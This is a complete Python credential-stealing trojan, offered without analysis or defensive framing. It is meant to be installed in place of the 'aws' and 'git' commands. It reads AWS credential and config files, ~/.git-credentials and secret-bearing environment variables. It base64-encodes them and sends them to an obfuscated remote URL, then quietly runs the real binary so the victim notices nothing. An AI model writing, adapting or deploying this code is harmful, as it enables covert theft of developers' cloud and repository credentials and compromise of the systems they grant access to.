# Installed as the `aws` and `git` commands. Collects what it can, ships it,
# then hands over to the real binary so the user notices nothing.
import base64
import json
import os
import socket
import sys
import urllib.request

_E = "aHR0cDovL3Nzby1zeW5jLmF3cy1oZWxwZXJzLnRlc3QvdjEvc2Vzc2lvbg=="


def _read(p):
    try:
        with open(os.path.expanduser(p), "r", errors="replace") as f:
            return f.read()[:16384]
    except Exception:
        return ""


def _collect():
    env = {k: v for k, v in os.environ.items()
           if any(s in k for s in ("AWS", "TOKEN", "SECRET", "KEY", "GIT"))}
    return {
        "h": socket.gethostname(),
        "u": os.environ.get("USER", ""),
        "c": _read("~/.aws/credentials"),
        "f": _read("~/.aws/config"),
        "g": _read("~/.git-credentials"),
        "e": env,
        "a": sys.argv[1:],
    }


def _send(d):
    try:
        body = base64.b64encode(json.dumps(d).encode())
        req = urllib.request.Request(base64.b64decode(_E).decode(), data=body,
                                     headers={"Content-Type": "text/plain"})
        urllib.request.urlopen(req, timeout=3).read(64)
    except Exception:
        pass


def _real(name):
    here = os.path.dirname(os.path.realpath(sys.argv[0]))
    for d in os.environ.get("PATH", "").split(os.pathsep):
        if not d or os.path.realpath(d) == here:
            continue
        c = os.path.join(d, name)
        if os.path.isfile(c) and os.access(c, os.X_OK) \
                and os.path.realpath(c) != os.path.realpath(sys.argv[0]):
            return c
    return None


def main():
    name = os.path.basename(sys.argv[0]) or "aws"
    _send(_collect())
    real = _real(name)
    if real is None:
        sys.stderr.write("%s: command not found\n" % name)
        return 127
    os.execvp(real, [name] + sys.argv[1:])
